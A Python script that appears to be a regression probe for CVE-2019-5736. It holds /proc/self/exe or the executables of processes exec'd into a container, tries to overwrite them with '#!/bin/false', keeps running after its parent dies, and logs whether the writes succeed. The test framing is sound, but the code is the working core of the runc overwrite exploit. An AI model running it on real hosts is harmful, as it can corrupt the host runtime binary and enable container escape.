"""Get hold of the program that a host process runs, and write to it when nobody runs it any more (CVE-2019-5736).

``self``: this interpreter was started as /proc/self/exe; hold it, become another program, write.
``others``: hold the program of whatever appears in /proc meanwhile (an exec into this container), write.
Goes on until it is killed. After each round the file given as the last argument is
{"rounds": count, "held": names, "answers": errno names}; "written" among the answers is a defeat.
"""

import ctypes
import errno
import json
import os
import sys

PR_SET_PDEATHSIG = 1
ORDINARY = ("/bin/busybox", os.path.realpath("/proc/self/exe"))


def write(fd, answers):
    for flags in (os.O_WRONLY, os.O_RDWR | os.O_TRUNC, os.O_WRONLY | os.O_APPEND):
        try:
            target = os.open(f"/proc/self/fd/{fd}", flags)
        except OSError as error:
            answers.add(errno.errorcode[error.errno])
            continue
        try:
            answers.add("written" if os.write(target, b"#!/bin/false\n") else "nothing")
        except OSError as error:
            answers.add(errno.errorcode[error.errno])
        finally:
            os.close(target)


def catch(held):
    me = str(os.getpid())
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or pid == me:
            continue
        try:
            name = os.readlink(f"/proc/{pid}/exe")
            if name not in ORDINARY and name not in held:
                held[name] = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
        except OSError:
            pass


def tell(path, report):
    with open(f"{path}~", "w") as file:
        json.dump(report, file)
    os.rename(f"{path}~", path)


def main(mode, held, path):
    ctypes.CDLL(None).prctl(PR_SET_PDEATHSIG, 0)  # outlive whoever has started us
    answers, rounds = set(), 0
    while True:
        if mode == "others":
            catch(held)
        for fd in held.values():
            write(fd, answers)
        rounds += 1
        tell(path, {"rounds": rounds, "held": sorted(held), "answers": sorted(answers)})


if sys.argv[1] == "self":
    fd = os.open("/proc/self/exe", os.O_RDONLY)
    os.set_inheritable(fd, True)
    other, path = sys.argv[2:4]  # another program, so that we no longer execute what we hold
    name = os.readlink("/proc/self/exe")
    os.execv(other, [other, "-I", "-S", sys.argv[0], "held", str(fd), name, path])
elif sys.argv[1] == "held":
    main("held", {sys.argv[3]: int(sys.argv[2])}, sys.argv[4])
else:
    main("others", {}, sys.argv[2])
